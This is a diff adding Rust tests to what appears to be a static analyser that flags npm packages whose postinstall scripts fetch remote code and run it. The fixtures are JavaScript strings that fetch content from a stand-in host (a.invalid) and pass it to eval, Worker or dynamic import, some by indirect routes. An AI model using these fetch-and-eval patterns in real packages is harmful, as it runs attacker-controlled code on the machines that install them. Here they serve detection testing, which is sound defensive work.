@@ -1,0 +1,53 @@
+use crate::flow::analyse;
+use crate::package::Package;
+use crate::unpack::{Tree, text_file as file};
+use customs_model::{SinkKind, SourceKind};
+
+fn runs_remote_code(code: &str) -> bool {
+    let manifest = r#"{"name": "a", "version": "1.0.0", "scripts": {"postinstall": "node i.js"}}"#;
+    let code = code.replace("TEXT", "fetch('https://a.invalid/b').then(r => r.text())");
+    let found = analyse(&Package::new(&Tree {
+        entries: vec![
+            file("package/package.json", manifest),
+            file("package/i.js", &code),
+            file("package/x.js", "eval(globalThis.z)"),
+        ],
+        ..Tree::default()
+    }));
+    found
+        .flows
+        .iter()
+        .any(|flow| flow.source == SourceKind::Remote && flow.sink == SinkKind::DynamicCode)
+}
+
+#[test]
+fn what_all_code_sees_or_an_error_carries_keeps_where_it_comes_from() {
+    for code in [
+        "TEXT.then(t => { global.z = t; setTimeout(() => eval(global.z), 9) })",
+        "TEXT.then(t => { globalThis.z = t; require('./x') })",
+        "TEXT.then(t => { process.env.Z = t; eval(process.env.Z) })",
+        "(async () => { try { throw new Error(await TEXT) } catch (e) { eval(e.message) } })()",
+        "(async () => { try { throw await TEXT } catch (e) { eval(e) } })()",
+        "const w = new WebSocket('wss://a.invalid'); w.onmessage = e => eval(e.data)",
+        "require('dns').promises.resolveTxt('a.invalid').then(r => eval(r[0].join('')))",
+        "const { Worker } = require('worker_threads'); TEXT.then(t => new Worker(new URL('data:text/javascript,' + t)))",
+        "import('https://a.invalid/b')",
+        "TEXT.then(t => { const o = { [t]: 1 }; for (const k in o) eval(k) })",
+        "TEXT.then(t => eval(Object.keys({ [t]: 1 })[0]))",
+    ] {
+        assert!(runs_remote_code(code), "{code}");
+    }
+}
+
+#[test]
+fn what_is_put_elsewhere_or_is_not_thrown_has_no_part_in_it() {
+    for code in [
+        "TEXT.then(t => { global.z = t; eval(global.y) })",
+        "TEXT.then(t => { process.env.Z = t; eval(process.env.Y) })",
+        "(async () => { try { await TEXT; throw '1' } catch (e) { eval(e) } })()",
+        "const w = { }; w.onmessage = e => eval(e.data)",
+        "import('./x.js')",
+    ] {
+        assert!(!runs_remote_code(code), "{code}");
+    }
+}
